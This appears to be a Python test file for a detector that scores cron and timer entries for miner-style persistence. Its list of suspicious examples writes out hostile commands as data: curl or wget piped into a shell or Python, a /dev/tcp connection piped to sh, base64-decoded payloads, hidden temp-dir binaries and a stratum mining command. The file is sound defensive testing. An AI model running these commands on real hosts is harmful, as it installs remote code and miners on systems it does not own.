"""What shell text says of a startup item: reported ways of miners, everyday jobs, and hostile text in bounded time."""

from __future__ import annotations

import time

import pytest

from davylamp.catalog.detections.fetching_persistence.traits import often, traits
from davylamp.kit.host_paths import hidden_part, is_temporary

SUSPICIOUS = (
    (4.5, "(curl -fsSL http://203.0.113.9/x||wget -q -O- http://203.0.113.9/x)|bash"),
    (4.5, "curl 198.51.100.7/s.sh|sh"),
    (4.5, "curl -s --socks5 127.0.0.1:9050 http://abcdefgh.onion/x | /bin/sh"),
    (3.0, "curl -s http://10.1.2.3/bootstrap.sh | bash"),
    (3.0, "source <(curl -s http://example.org/c)"),
    (4.5, "curl -s http://203.0.113.9/w.py | /usr/bin/python3"),
    (4.5, "curl -s http://203.0.113.9/w.py|/usr/bin/sudo -u www-data /usr/bin/env /opt/py/bin/python3.11 - &"),
    (4.0, "base64 -d /etc/x.b64 | /usr/bin/perl"),
    (4.5, "curl -s http://203.0.113.9/w.sh | sudo -u www-data bash"),
    (2.0, 'bash -c "$(curl -fsSL https://example.org/a.sh)"'),
    (2.0, "wget --quiet https://example.org/a -O- | sudo -E bash -"),
    (4.0, "echo Y3VybCBodHRw | base64 -d | bash"),
    (4.0, "python3 -c \"import urllib.request as u;exec(u.urlopen('http://example.org/b').read())\""),
    (4.0, "curl http://example.org/y.sh -o /tmp/y.sh && chmod +x /tmp/y.sh && /tmp/y.sh"),
    (3.5, "cd /tmp; curl -O http://example.org/kal.tar.gz; tar xf kal.tar.gz; ./kal"),
    (3.5, "exec 3<>/dev/tcp/198.51.100.7/443; cat <&3 | sh"),
    (4.5, "/tmp/.a/run"),
    (4.5, "/var/tmp/.../run"),
    (3.0, "nohup /var/tmp/a -c /var/tmp/c.json &"),
    (3.5, "/usr/lib/.cache2/x -c"),
    (3.5, "ps aux | grep -v grep | grep kdevtmpfsi | awk '{print $2}' | xargs kill -9"),
    (6.0, "/opt/x -o stratum+tcp://10.0.0.1:3333 -u worker"),
    (1.0, "sh /home/anna/.hid/run.sh"),
)
ORDINARY = (
    "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
    "find /tmp -type f -mtime +7 -delete",
    "cd /var/www/app && /usr/bin/php artisan schedule:run >> /dev/null 2>&1",
    '"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null',
    "/usr/bin/flock -n /tmp/job.lock /usr/local/bin/job.sh >/tmp/job.log 2>&1",
    "curl -fsS -m 10 --retry 5 -o /dev/null https://example.org/ping",
    "curl -s https://example.org/x | python3 -m json.tool > /var/lib/x.json",
    "curl -s https://example.org/x | perl -ne 'print if /a/'",
    "curl -s https://example.org/x | /usr/bin/python3 -m json.tool",
    "curl -s https://example.org/x | /usr/bin/perl -ne 'print if /a/'",
    "curl -s https://example.org/x | /opt/python3/bin/format",
    "mysqldump db | gzip | base64 > /backup/db.b64",
    "python3 -c \"import urllib.request;print(urllib.request.urlopen('http://127.0.0.1/health').status)\"",
    'echo "$KEY" | base64 -d > /etc/ssl/key.pem',
    "if [ -f /tmp/.lock ]; then rm /tmp/.lock; fi",
    "mkdir -p /tmp/.ICE-unix && chmod 1777 /tmp/.ICE-unix",
    "sed -ne 's,^\\(/.*/\\)[^/]*\\.py$,\\1__pycache__,p'",
    "PATH=/tmp/bin:/usr/bin",
    'eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"',
    "wget -q -O /usr/local/share/geo.mmdb.gz https://example.org/geo.gz",
    "make fetch && sh build.sh",
)
HOSTILE = (
    "curl ", "sudo ", "|", "curl |", "(((((( ", "cd /tmp;curl ", "base64 -d ", "/tmp/a;", "wget -O a ", "python -c ",
    "a",
    "sudo -a -b 1 ", "sh -c $(", "/tmp/" * 20 + ";", "nice nice nice ", "openssl enc -d ", "http://", "\u202e\x00/",
)  # fmt: skip


@pytest.mark.parametrize(("llr", "text"), SUSPICIOUS)
def test_what_miners_do_is_seen(llr: float, text: str) -> None:
    assert max((trait.llr for trait in traits(text, "cron")), default=0.0) == llr


@pytest.mark.parametrize("text", ORDINARY)
def test_what_administrators_do_is_nothing(text: str) -> None:
    assert traits(text, "cron") == []


@pytest.mark.parametrize("piece", HOSTILE)
def test_hostile_text_takes_no_time(piece: str) -> None:
    text = (piece * 8192)[:8192]
    started = time.process_time()
    traits(text, "cron")
    assert time.process_time() - started < 0.5


def test_every_few_minutes_is_often() -> None:
    assert all(often("cron", each) for each in ("* * * * *", "*/5 * * * *", "0-59/2 * * * *"))
    assert not any(often("cron", each) for each in ("17 * * * *", "*/10 * * * *", "@daily", ""))
    assert often("systemd_timer", "OnBootSec=30; OnUnitActiveSec=1min")
    assert often("systemd_timer", "OnCalendar=*:0/1")
    assert not often("systemd_timer", "OnUnitActiveSec=1d")


def test_paths_that_somebody_hid() -> None:
    assert hidden_part("/var/tmp/.../a") == "..."
    assert hidden_part("/usr/lib/./a/../b") is None
    assert hidden_part("/home/anna/.venv/bin/python") is None
    assert is_temporary("/dev/shm/a")
    assert not is_temporary("/tmp/.mount_app/usr/bin/app")
